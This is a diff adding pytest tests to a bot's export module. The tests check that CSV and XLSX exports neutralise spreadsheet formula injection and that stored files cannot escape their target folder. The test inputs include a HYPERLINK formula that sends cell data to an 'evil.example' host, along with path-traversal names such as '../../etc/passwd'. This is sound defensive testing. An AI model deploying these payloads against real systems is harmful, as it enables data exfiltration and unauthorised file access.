@@ -1,6 +1,7 @@
 import csv
 import io
-from datetime import date, datetime, timedelta
+import zipfile
+from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -8,7 +9,15 @@ import pytest
 from openpyxl import load_workbook
 
 from bot.clock import ManualClock
-from bot.services.export import COLUMNS, KINDS, export_csv, export_xlsx, write_export
+from bot.services.export import (
+    COLUMNS,
+    KINDS,
+    export_csv,
+    export_xlsx,
+    inert,
+    write_export,
+    write_files,
+)
 from bot.services.importer import CohortImporter
 from models import (
     Assessment,
@@ -17,8 +26,10 @@ from models import (
     Person,
     Reflection,
     ReflectionVersion,
+    StoredFile,
     Talk,
     TrainingSession,
+    Unit,
 )
 from models.enums import AssessmentKind, AttendanceStatus, Grade, SessionKind
 from tests.data.cohorts import closed_row, row, to_csv
@@ -144,3 +155,105 @@ async def test_text_that_a_workbook_cannot_hold_is_cleaned(db: None, clock: Manu
     await Talk.filter(case=case).update(summary="粘贴\x0b来的文字")
     sheets = sheet_rows(await export_xlsx("zh-CN", ZONE))
     assert sheets["谈心谈话"][1][6] == "粘贴来的文字"
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
+    "+1+2",
+    "-2+3",
+    "-",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "＝1+1",
+]
+
+
+async def hostile_records(clock: ManualClock, text: str) -> None:
+    """People's text in every kind of record: names, unit, talk, reflection, assessment."""
+    case = await seed(clock)
+    await Person.filter(name="张伟").update(name=text)
+    await Unit.filter(id=case.unit_id).update(name=text)  # type: ignore[attr-defined]
+    await Talk.filter(case=case).update(summary=text, place=text, actions=text)
+    await ReflectionVersion.filter(reflection__case=case).update(text=text)
+    await Assessment.filter(case=case).update(comments=text, recommendation=text)
+    await TrainingSession.all().update(title=text)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+async def test_exports_never_hold_a_formula(
+    db: None, clock: ManualClock, tmp_path: Path, text: str
+) -> None:
+    await hostile_records(clock, text)
+    data = await export_xlsx("zh-CN", ZONE)
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)
+    workbook = load_workbook(io.BytesIO(data))
+    seen = 0
+    for page in workbook.worksheets:
+        for line in page.iter_rows():
+            for cell in line:
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str) and cell.value.lstrip("'").strip() in (
+                    text.strip(),
+                    text.replace("\r", "").strip(),
+                ):
+                    assert cell.value.startswith("'"), (page.title, cell.value)
+                    seen += 1
+    assert seen >= 10
+    csv_seen = 0
+    for path in await write_export(tmp_path / "csv", "csv", "en", ZONE):
+        for line in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))):
+            for value in line:
+                if value.lstrip("'").strip() == text.strip():
+                    assert value.startswith("'"), (path.name, value)
+                    csv_seen += 1
+    assert csv_seen >= 10
+
+
+def test_plain_text_is_left_as_it_is() -> None:
+    for text in ("谈工作作风", "A+B", "1-2", "e-mail: a@b.c", "", "  spaced"):
+        assert inert(text) == text
+    assert inert(-5) == -5
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "/abs/path.docx",
+        "..",
+        ".hidden",
+        "a\x01b\nc\x7f.docx",
+        "思" * 100 + ".docx",
+        "思" * 200,
+        "con:name?.pdf",
+    ],
+)
+async def test_files_stay_in_the_target_folder(db: None, tmp_path: Path, name: str) -> None:
+    now = datetime(2026, 3, 2, tzinfo=UTC)
+    await StoredFile.create(
+        telegram_file_id="f1", owner="reflection-4-v2", kind="document", name=name, size=2,
+        content=b"PK", created_at=now,
+    )  # fmt: skip
+    await StoredFile.create(
+        telegram_file_id="f2", owner="reflection-4-v2", kind="document", name=name, size=2,
+        content=b"P2", created_at=now,
+    )  # fmt: skip
+    folder = tmp_path / "out" / "files"
+    written = await write_files(folder)
+    assert len(written) == 2 and len(set(written)) == 2
+    inside = sorted(p.name for p in folder.iterdir())
+    assert sorted(p.name for p in written) == inside
+    assert all(p.parent == folder.resolve() and len(p.name.encode()) <= 255 for p in written)
+    assert sorted(p.read_bytes() for p in written) == [b"P2", b"PK"]
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # noqa: ASYNC240
+    if name.startswith("思" * 100):
+        assert written[0].name.startswith("reflection-4-v2-思思")
+        if name.endswith(".docx"):
+            assert written[0].suffix == ".docx"
